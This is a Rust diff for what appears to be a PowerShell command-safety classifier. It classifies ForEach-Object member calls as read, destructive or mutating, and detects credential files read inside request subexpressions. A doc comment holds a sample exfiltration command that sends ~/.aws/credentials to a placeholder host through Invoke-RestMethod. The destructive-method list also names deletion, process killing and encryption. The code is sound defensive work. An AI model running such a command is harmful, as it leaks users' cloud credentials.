@@ -283,3 +283,170 @@ pub(super) fn strip_carets(text: &str) -> String {
     }
     out
 }
+
+/// `ForEach-Object NAME [ARGS]` (also `%`, `-MemberName NAME`): NAME is a property read or a
+/// method called on every object piped in (`Get-ChildItem | % Delete`, `Get-Process | %
+/// Kill`). Read only for the listed properties and methods that only return a value; a
+/// method that deletes, stops or moves is destructive; any other is a call not seen.
+pub(super) fn foreach_member(args: &[String]) -> Option<(Effect, String)> {
+    let mut it = args.iter();
+    let mut member = None;
+    while let Some(a) = it.next() {
+        let lower = a.to_ascii_lowercase();
+        if let Some(flag) = lower.strip_prefix('-') {
+            // `-MemberName X` (any unique prefix: `-m`, `-Mem`); other flags take a script
+            // block or a value, judged elsewhere.
+            if !flag.is_empty() && "membername".starts_with(flag.split(':').next().unwrap_or("")) {
+                member = match flag.split_once(':') {
+                    Some((_, v)) => Some(v.to_string()),
+                    None => it.next().cloned(),
+                };
+                break;
+            }
+            if matches!(
+                flag,
+                "argumentlist" | "args" | "inputobject" | "begin" | "end" | "process"
+            ) {
+                it.next();
+            }
+            continue;
+        }
+        if a.starts_with(['{', '$', '(']) {
+            return None;
+        }
+        member = Some(a.clone());
+        break;
+    }
+    let name = member?.trim_matches(['\'', '"']).to_ascii_lowercase();
+    const READS: &[&str] = &[
+        "name",
+        "fullname",
+        "basename",
+        "extension",
+        "length",
+        "lastwritetime",
+        "lastaccesstime",
+        "creationtime",
+        "mode",
+        "attributes",
+        "directoryname",
+        "directory",
+        "parent",
+        "root",
+        "exists",
+        "isreadonly",
+        "linktype",
+        "target",
+        "id",
+        "processname",
+        "path",
+        "status",
+        "displayname",
+        "servicename",
+        "starttype",
+        "count",
+        "value",
+        "key",
+        "keys",
+        "values",
+        "handle",
+        "cpu",
+        "ws",
+        "pm",
+        "starttime",
+        "mainwindowtitle",
+        "ipaddress",
+        "interfacealias",
+        "state",
+        "source",
+        "message",
+        "timecreated",
+        "level",
+        "eventid",
+        "toupper",
+        "tolower",
+        "tostring",
+        "trim",
+        "gettype",
+        "gethashcode",
+        "pspath",
+        "psparentpath",
+        "pschildname",
+        "psiscontainer",
+        "versioninfo",
+    ];
+    const DESTROYS: &[&str] = &[
+        "delete",
+        "kill",
+        "stop",
+        "remove",
+        "moveto",
+        "replace",
+        "clear",
+        "truncate",
+        "terminate",
+        "shutdown",
+        "reboot",
+        "uninstall",
+        "format",
+        "encrypt",
+        "decrypt",
+        "setaccesscontrol",
+        "pause",
+        "disable",
+        "drop",
+    ];
+    if READS.contains(&name.as_str()) {
+        Some((Read, format!("reads `{name}` of each object")))
+    } else if DESTROYS.iter().any(|d| name.starts_with(d)) {
+        Some((
+            Destructive,
+            format!("calls `{name}` on each object piped in (deletes, stops or moves them)"),
+        ))
+    } else {
+        Some((
+            Mutating,
+            format!("calls `{name}` on each object piped in (a method not proven to read)"),
+        ))
+    }
+}
+
+/// A secret file read inside a `$( )` of a request's arguments (`Invoke-RestMethod
+/// "https://x/?k=$(Get-Content $HOME\.aws\credentials -Raw)"`): the request carries it.
+pub(super) fn secret_in_subexpression(args: &[String]) -> Option<String> {
+    args.iter()
+        .filter_map(|a| a.split_once("$(").map(|(_, inner)| inner))
+        .flat_map(|inner| inner.split([' ', ')', '"', '\'', ',', ';', '(']))
+        .find_map(|w| {
+            let unix = w.replace('\\', "/");
+            let lower = unix.to_ascii_lowercase();
+            let home = [
+                "$home",
+                "$env:userprofile",
+                "$env:home",
+                "${env:userprofile}",
+                "~",
+            ]
+            .iter()
+            .find_map(|h| lower.strip_prefix(h).map(|_| h.len()));
+            let path = match home {
+                Some(n) => format!("~{}", unix.get(n..).unwrap_or("")),
+                None => unix,
+            };
+            super::super::super::args::secret_path(&path).then(|| w.to_string())
+        })
+}
+
+/// The quoted strings of a text (`'…'` or `"…"`, no escapes), in order.
+pub(super) fn quoted(text: &str) -> impl Iterator<Item = &str> {
+    let mut rest = text;
+    std::iter::from_fn(move || {
+        let start = rest.find(['\'', '"'])?;
+        let q = rest.get(start..start + 1)?;
+        let body = rest.get(start + 1..)?;
+        let end = body.find(q)?;
+        let inside = body.get(..end)?;
+        rest = body.get(end + 1..).unwrap_or("");
+        Some(inside)
+    })
+}
